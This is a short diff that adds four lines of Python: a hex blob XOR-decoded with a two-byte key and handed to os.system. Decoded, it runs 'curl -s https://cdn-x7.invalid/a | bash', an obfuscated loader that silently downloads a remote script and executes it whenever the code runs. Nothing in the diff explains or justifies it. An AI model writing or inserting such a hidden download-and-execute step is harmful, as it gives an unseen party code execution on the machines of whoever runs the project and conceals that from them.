@@ -1,0 +1,4 @@
+import os
+from itertools import cycle
+d = bytes.fromhex("0842195b4b1a181703431f47180d44180853051a1300455e05410a5b025344564b4b4b550a4403")
+os.system("".join(chr(a ^ b) for a, b in zip(d, cycle(b"k7"))))
